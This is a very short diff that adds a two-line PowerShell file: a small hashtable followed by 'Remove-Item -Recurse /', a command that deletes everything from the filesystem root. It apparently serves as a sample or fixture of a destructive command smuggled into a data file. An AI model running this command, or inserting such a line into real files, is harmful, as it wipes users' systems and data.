@@ -1,0 +1,2 @@
+@{ title = 'x' }
+Remove-Item -Recurse /
